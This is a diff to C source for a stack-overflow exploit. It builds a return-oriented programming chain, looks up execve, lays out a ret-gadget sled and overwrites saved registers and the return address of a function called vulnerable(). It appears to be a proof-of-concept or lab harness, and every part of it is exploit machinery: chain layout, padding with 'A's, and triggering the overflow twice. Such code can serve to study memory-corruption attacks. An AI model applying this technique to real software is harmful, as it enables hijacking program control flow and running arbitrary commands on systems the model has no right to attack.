@@ -75,6 +75,13 @@ void end_at(word end) {
   chain.end = end;
 }
 
+word execve_entry(void) { return need(symbol("execve"), "execve"); }
+
+void below_work(word last_hop) {
+  end_at(joint);
+  add(last_hop);
+}
+
 struct wish {
   enum register_name name;
   word value;
@@ -155,23 +162,28 @@ static struct {
   word words[LENGTH(chain.words) + 1024];
 } record;
 
-// Calls vulnerable() again and again from the same depth: at first only to learn where its frame is.
-_Noreturn NOINLINE void strike(void) {
+size_t lay_out(word slot, word *words, size_t room) {
   word ret = need(find("c3"), "ret");
-  word slot = (word)vulnerable(&record, 0) + BUFFER + 8 * SAVED;
   size_t between = 0;
   if (chain.end) {
     if (chain.end < slot + 8 * chain.count) impossible("the chain is longer than the stack that it may overwrite");
     between = (chain.end - slot) / 8 - chain.count;
   }
-  if (chain.count + between > LENGTH(record.words)) impossible("the chain is longer than the record");
+  if (chain.count + between > room) impossible("the chain is longer than the record");
+  memcpy(words, chain.words, 8 * chain.sled);
+  for (size_t n = 0; n < between; n++) words[chain.sled + n] = ret;
+  memcpy(words + chain.sled + between, chain.words + chain.sled, 8 * (chain.count - chain.sled));
+  return chain.count + between;
+}
+
+// Calls vulnerable() twice from the same depth: at first only to learn where its frame is.
+_Noreturn NOINLINE void strike(void) {
   word saved[SAVED] = {chain.rbx, chain.r12, chain.r13, chain.r14, chain.r15, chain.rbp};
   memset(record.buffer, 'A', sizeof record.buffer);
   memcpy(record.saved, saved, sizeof saved);
-  memcpy(record.words, chain.words, 8 * chain.sled);
-  for (size_t n = 0; n < between; n++) record.words[chain.sled + n] = ret;
-  memcpy(record.words + chain.sled + between, chain.words + chain.sled, 8 * (chain.count - chain.sled));
-  vulnerable(&record, offsetof(typeof(record), words) + 8 * (chain.count + between));
+  word slot = (word)vulnerable(&record, 0) + BUFFER + 8 * SAVED;
+  size_t count = lay_out(slot, record.words, LENGTH(record.words));
+  vulnerable(&record, offsetof(typeof(record), words) + 8 * count);
   impossible("vulnerable() came back");
 }
 
